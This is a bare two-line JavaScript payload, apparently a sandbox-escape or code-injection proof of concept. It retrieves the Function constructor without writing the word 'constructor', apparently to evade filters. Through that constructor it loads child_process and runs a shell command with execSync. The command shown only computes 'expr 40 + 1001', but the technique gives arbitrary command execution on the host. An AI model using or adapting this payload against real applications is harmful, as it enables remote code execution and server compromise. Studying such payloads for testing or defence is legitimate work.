const p=(()=>{}).__proto__; const F=p[Object.getOwnPropertyNames(p).filter(x=>x.length==11)[0]];
F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
